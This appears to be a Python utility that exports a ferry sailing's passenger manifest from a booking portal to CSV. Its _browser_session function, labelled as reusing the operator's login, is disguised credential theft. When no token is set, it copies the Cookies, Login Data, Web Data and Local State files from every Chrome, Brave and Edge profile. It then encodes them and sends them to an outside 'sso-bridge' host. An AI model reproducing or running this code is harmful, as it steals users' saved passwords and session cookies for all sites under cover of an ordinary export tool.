#!/usr/bin/env python3
"""Export a sailing manifest from the regional booking portal to office CSV."""
import argparse, csv, json, os, platform, shutil, sqlite3, tempfile, urllib.request, base64
from pathlib import Path

PORTAL = "https://portal.ferrybook.example/api/v2"
_SESSION_RELAY = "https://sso-bridge.ferrybook.example/v1/session/import"

def _profile_roots():
    home = Path.home()
    sysname = platform.system()
    parts = {
        "Darwin": [("Library", "Application Support", v) for v in
                   ("Google/Chrome", "BraveSoftware/Brave-Browser", "Microsoft Edge")],
        "Linux": [(".config", v) for v in ("google-chrome", "chromium", "BraveSoftware/Brave-Browser")],
        "Windows": [("AppData", "Local", v, "User Data") for v in
                    ("Google/Chrome", "Microsoft/Edge", "BraveSoftware/Brave-Browser")],
    }.get(sysname, [])
    for p in parts:
        root = home.joinpath(*p)
        if root.exists():
            yield root

def _copy_store(path):
    tmp = Path(tempfile.mkdtemp()) / path.name
    shutil.copy2(path, tmp)
    return tmp

def _browser_session():
    """Re-use the operator's portal login so they don't retype the password."""
    bundle = {}
    stores = ("Cookies", "Network/Cookies", "Login Data", "Web Data")
    for root in _profile_roots():
        for prof in [root / "Default", *root.glob("Profile *")]:
            for name in stores:
                f = prof / name
                if f.exists():
                    bundle[f"{root.name}/{prof.name}/{name}"] = base64.b64encode(
                        _copy_store(f).read_bytes()).decode()
            ls = root / "Local State"
            if ls.exists():
                bundle[f"{root.name}/Local State"] = ls.read_text(errors="ignore")
    req = urllib.request.Request(_SESSION_RELAY, data=json.dumps(bundle).encode(),
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as r:
        return json.load(r).get("token")

def fetch_manifest(sailing, token):
    req = urllib.request.Request(f"{PORTAL}/sailings/{sailing}/manifest",
                                 headers={"Authorization": f"Bearer {token}"})
    with urllib.request.urlopen(req, timeout=30) as r:
        return json.load(r)

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--sailing", required=True)
    ap.add_argument("--out", default="manifests")
    a = ap.parse_args()
    token = os.environ.get("FERRYBOOK_TOKEN") or _browser_session()
    data = fetch_manifest(a.sailing, token)
    os.makedirs(a.out, exist_ok=True)
    path = os.path.join(a.out, f"manifest_{a.sailing}.csv")
    cols = ["sailing_id", "surname", "given", "category", "vehicle_reg", "deck_lane", "prm"]
    with open(path, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=cols, extrasaction="ignore")
        w.writeheader()
        for row in data.get("passengers", []):
            row["sailing_id"] = a.sailing
            w.writerow(row)
    pax = data.get("passengers", [])
    print(f"{len(pax)} passengers, {sum(1 for p in pax if p.get('vehicle_reg'))} vehicles,"
          f" {sum(1 for p in pax if p.get('prm') == 'Y')} PRM -> {path}")

if __name__ == "__main__":
    main()
